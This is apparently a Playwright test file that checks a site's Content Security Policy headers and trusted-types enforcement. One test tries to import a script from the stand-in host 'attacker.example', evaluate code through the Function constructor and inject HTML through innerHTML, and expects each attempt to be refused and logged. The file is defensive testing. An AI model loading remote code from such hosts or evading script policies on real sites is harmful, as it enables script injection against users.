import { existsSync } from 'node:fs'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { openPage } from '../../fixtures/page/open-page'
import { releasedDocuments } from '../../fixtures/releases/released-documents'
import { releasedPolicies } from '../../fixtures/releases/released-policies'
import { expect, test } from '../../fixtures/test'
import { siteFolder } from '../../site'

test('every released document has its policies first, and starts by inline scripts only', () => {
  for (const { file, html } of releasedDocuments()) {
    const policies = releasedPolicies(html)
    const [first = '', origins = ''] = policies
    expect.soft(policies, file).toHaveLength(2)
    for (const directive of [
      "default-src 'none'",
      "script-src 'strict-dynamic' 'self' 'sha256-",
      "base-uri 'none'",
      "object-src 'none'",
      "require-trusted-types-for 'script'",
      'trusted-types fivefold-workers',
    ]) {
      expect.soft(first, file).toContain(directive)
    }
    expect.soft(origins, file).toMatch(/^script-src 'self'( 'sha256-[\w+/=]+')+$/)
    expect.soft(first + origins, file).not.toMatch(/unsafe-|\*/)
    const earlier = html.slice(0, html.indexOf(first))
    expect.soft(earlier, file).not.toMatch(/<(script|style)/)
    expect.soft(html, file).not.toMatch(/<script[^>]* src=/)
    for (const [, address = ''] of html.matchAll(/<link rel="modulepreload" href="([^"]+)"/g)) {
      expect.soft(existsSync(path.join(siteFolder, address)), `${file}: ${address}`).toBe(true)
    }
  }
})

/**
 * Returns and clears the violations that this test expects. A timer calls `act`, because code that the test’s
 * driver calls may evaluate text.
 */
async function refusalOf(page: Page, problems: string[], act: () => unknown) {
  const called = `new Promise((resolve, reject) => setTimeout(async () => {
    try { resolve(await (${act.toString()})()) } catch (refusal) { reject(refusal) }
  }))`
  await expect(page.evaluate(called)).rejects.toThrow(/./)
  await expect.poll(() => problems).not.toEqual([])
  return problems.splice(0).join('\n')
}

test('the policy refuses code of another origin, evaluated code and HTML from strings, and the page records it', async ({
  page,
  pageProblems,
}) => {
  await openPage(page, '/about')
  const refused = (act: () => unknown) => refusalOf(page, pageProblems, act)
  expect(await refused(() => import(String('https://attacker.example/x.js')))).toContain(
    'attacker.example',
  )
  expect(await refused(() => Reflect.construct(Function, ['return 1']))).toContain(
    'trusted-types-sink Function',
  )
  expect(await refused(() => (document.body.innerHTML = '<b>x</b>'))).toContain(
    'trusted-types-sink Element innerHTML',
  )
  const records = () => page.evaluate(() => localStorage.getItem('error_logs') ?? '')
  await expect.poll(records).toContain('https://attacker.example/x.js')
  expect(await records()).toContain('require-trusted-types-for: trusted-types-sink')
})
